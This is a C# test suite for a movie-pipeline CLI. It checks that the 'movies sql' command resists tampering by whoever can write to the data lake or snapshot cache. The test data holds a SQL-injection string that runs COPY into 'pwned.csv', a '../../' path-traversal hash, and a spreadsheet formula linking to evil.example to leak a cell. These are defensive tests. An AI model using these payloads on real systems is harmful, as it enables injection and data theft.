using System.Text.Json;
using Movies.Cli;
using Movies.Pipeline.Gold;
using Movies.Pipeline.Lake;
using Movies.Pipeline.Tests.Infrastructure;

namespace Movies.Pipeline.Tests.Cli;

/// <summary>What a lake writer (or anyone who can write where snapshots are kept) can do to <c>movies sql</c>
/// (docs/security.md): nothing. The attacks of issue 25 on each lake: a version marker whose table name or content hash
/// carries SQL or a path, and files planted in the snapshot cache.</summary>
public abstract class SqlTrustTests : IDisposable
{
    private static readonly DateOnly Day = new(2026, 11, 23);

    /// <summary>A director as a hostile OMDb answer could give it: a formula Excel would run on opening the CSV.</summary>
    private const string Formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1)";

    protected TempFolder Folder { get; } = new();

    private string Cache => Folder.Combine("cache");

    /// <summary>A lake with one promoted run, and the CLI arguments that name it.</summary>
    protected abstract Task<(ILakeStore Lake, string[] Args)> CreateLakeAsync();

    [Fact]
    public async Task Sql_MarkerTableNameCarriesSql_RefusedNothingRuns()
    {
        var (lake, args) = await CreateLakeAsync();
        var version = (await GoldLatestReader.ReadVersionAsync(lake))!;
        var content = (await lake.DownloadAsync(LakeContainers.Gold, GoldPaths.Latest(GoldPaths.MoviesUnified, "parquet")))!;
        // The view statement the old code built from this name ran COPY in the analyst's working folder.
        var evil = "latest/x\" AS SELECT 1; COPY (SELECT 42 AS pwned) TO 'pwned.csv'; CREATE VIEW \"y.parquet";
        await lake.UploadAsync(LakeContainers.Gold, evil, content, overwrite: true);
        await WriteMarkerAsync(lake, version with { Files = new Dictionary<string, string>(version.Files) { [evil] = Sha256(content) } });

        var result = await MoviesCli.RunInAsync(Folder.Path, null, ["sql", .. args, "--cache", Cache, "select count(*) as n from movies_unified"]);

        Assert.NotEqual(0, result.ExitCode);
        Assert.Contains("_version.json", result.Stderr, StringComparison.Ordinal);
        Assert.False(File.Exists(Folder.Combine("pwned.csv")), "the lake's table name ran as SQL");
    }

    [Fact]
    public async Task Sql_MarkerContentHashIsAPath_RefusedNothingWrittenOutsideTheCache()
    {
        var (lake, args) = await CreateLakeAsync();
        var version = (await GoldLatestReader.ReadVersionAsync(lake))!;
        // From the cache's lake folder, two levels up is the test folder: the old code wrote the snapshot there.
        await WriteMarkerAsync(lake, version with { ContentHash = "../../escaped123" + new string('0', 48) });

        var result = await MoviesCli.RunAsync(null, ["sql", .. args, "--cache", Cache, "select 1"]);

        Assert.NotEqual(0, result.ExitCode);
        Assert.Contains("contentHash", result.Stderr, StringComparison.Ordinal);
        Assert.False(Directory.Exists(Folder.Combine("escaped123")), "a lake-supplied hash became a folder outside the cache");
    }

    [Fact]
    public async Task Sql_FilesPlantedInTheSnapshot_NeverQueriedTheLakesTablesAnswer()
    {
        var (lake, args) = await CreateLakeAsync();
        var first = await MoviesCli.RunAsync(null, ["sql", .. args, "--cache", Cache, "--format", "json", "select count(*) as n from movies_unified"]);
        Assert.True(first.ExitCode == 0, first.Stderr);
        var lakeFolder = GoldSnapshotCache.LakeFolder(lake, Cache);
        var snapshot = Assert.Single(Directory.GetDirectories(lakeFolder), d => !Path.GetFileName(d).StartsWith('.'));
        // A tampered table and a planted one whose name is SQL.
        File.Copy(Path.Combine(snapshot, "genre_summary.parquet"), Path.Combine(snapshot, "movies_unified.parquet"), overwrite: true);
        File.Copy(Path.Combine(snapshot, "genre_summary.parquet"), Path.Combine(snapshot, "z\" AS SELECT 1; COPY (SELECT 42 AS pwned) TO 'pwned.csv'; CREATE VIEW \"w.parquet"));

        var again = await MoviesCli.RunInAsync(Folder.Path, null, ["sql", .. args, "--cache", Cache, "--format", "json", "select count(*) as n from movies_unified"]);

        Assert.True(again.ExitCode == 0, again.Stderr);
        Assert.Equal(Count(first.Stdout), Count(again.Stdout));
        Assert.False(File.Exists(Folder.Combine("pwned.csv")), "a planted file's name ran as SQL");
    }

    /// <summary>Issue 25, item 5: the formula from OMDb is text in every CSV the product writes (gold's tables and
    /// <c>sql --format csv</c>), and unchanged in the Parquet tables.</summary>
    [Fact]
    public async Task Csv_FormulaFromOmdb_NeutralisedInGoldAndSqlCsvParquetUnchanged()
    {
        var (lake, args) = await CreateLakeAsync();

        var sql = await MoviesCli.RunAsync(null, ["sql", .. args, "--cache", Cache, "--format", "csv", "select directors, -5 as n from movies_unified where imdb_id = 'tt0000002'"]);

        var guarded = "'" + Formula;
        Assert.True(sql.ExitCode == 0, sql.Stderr);
        Assert.Equal(["directors,n", Quoted(guarded) + ",-5"], sql.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.TrimEnd('\r')));
        foreach (var table in new[] { GoldPaths.MoviesUnified, GoldPaths.DirectorSummary })
        {
            var csv = (await lake.DownloadAsync(LakeContainers.Gold, GoldPaths.Latest(table, "csv")))!.ToString();
            Assert.Contains("," + Quoted(guarded) + ",", csv.Replace("\r\n", ",", StringComparison.Ordinal), StringComparison.Ordinal);
            Assert.DoesNotContain("," + Quoted(Formula), csv.Replace("\r\n", ",", StringComparison.Ordinal), StringComparison.Ordinal);
        }

        Assert.Equal([[Formula]], await LakeRuns.QueryParquetAsync(lake, LakeContainers.Gold, GoldPaths.Latest(GoldPaths.DirectorSummary, "parquet"), $"SELECT director FROM t WHERE director LIKE '=%'"));
    }

    private static string Quoted(string cell) => "\"" + cell.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Sql_SnapshotFolderOpenToOthersOrALink_RefusedExitTwo(bool link)
    {
        var (lake, args) = await CreateLakeAsync();
        var lakeFolder = GoldSnapshotCache.LakeFolder(lake, Cache);
        Directory.Delete(lakeFolder);
        if (link)
        {
            Directory.CreateDirectory(Folder.Combine("elsewhere"));
            Directory.CreateSymbolicLink(lakeFolder, Folder.Combine("elsewhere"));
        }
        else if (!OperatingSystem.IsWindows())
        {
            Directory.CreateDirectory(lakeFolder);
            File.SetUnixFileMode(lakeFolder, (UnixFileMode)0x1FF);
        }

        var result = await MoviesCli.RunAsync(null, ["sql", .. args, "--cache", Cache, "select 1"]);

        Assert.True(result.ExitCode == 2, $"exit {result.ExitCode}: {result.Stderr}");
        Assert.Contains(link ? "is a link" : "open to other users", result.Stderr, StringComparison.Ordinal);
        Assert.Empty(Directory.GetFileSystemEntries(link ? Folder.Combine("elsewhere") : lakeFolder));
    }

    public void Dispose()
    {
        Cleanup();
        Folder.Dispose();
        GC.SuppressFinalize(this);
    }

    protected virtual void Cleanup()
    {
    }

    protected static async Task PromoteRunAsync(ILakeStore lake)
    {
        var manifest = await LakeRuns.WriteRunAsync(lake, "20261123-sqltrust", Day, new DateTimeOffset(Day.ToDateTime(new TimeOnly(3, 0)), TimeSpan.Zero),
            [new("heat", LakeRuns.Omdb("tt0113277", "Heat", 1995)), new("x", LakeRuns.Omdb("tt0000002", "X", 2004, director: Formula))]);
        await LakeRuns.Promoter(lake).PromoteAsync(manifest);
    }

    private static Task<bool> WriteMarkerAsync(ILakeStore lake, GoldVersion version)
        => lake.WriteJsonAsync(LakeContainers.Gold, GoldPaths.LatestVersion, version, PipelineJsonContext.Blobs.GoldVersion, overwrite: true);

    private static string Sha256(BinaryData content) => Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(content.ToMemory().Span));

    private static int Count(string json)
    {
        using var document = JsonDocument.Parse(json);
        return document.RootElement[0].GetProperty("n").GetInt32();
    }
}

public sealed class FileSystemSqlTrustTests : SqlTrustTests
{
    protected override async Task<(ILakeStore Lake, string[] Args)> CreateLakeAsync()
    {
        var lake = new FileSystemLakeStore(Folder.Combine("lake"));
        await PromoteRunAsync(lake);
        return (lake, ["--lake", Folder.Combine("lake")]);
    }
}

[Collection(AzuriteCollection.Name)]
public sealed class BlobSqlTrustTests(AzuriteFixture azurite) : SqlTrustTests
{
    protected override async Task<(ILakeStore Lake, string[] Args)> CreateLakeAsync()
    {
        var lake = await LakeReset.EmptyBlobLakeAsync(azurite.CreateServiceClient());
        await PromoteRunAsync(lake);
        return (lake, ["--connection", azurite.ConnectionString]);
    }

    /// <summary>The tampered marker must not outlive the test: the next test on this Azurite reads gold.</summary>
    protected override void Cleanup() => LakeReset.EmptyBlobLakeAsync(azurite.CreateServiceClient()).GetAwaiter().GetResult();
}
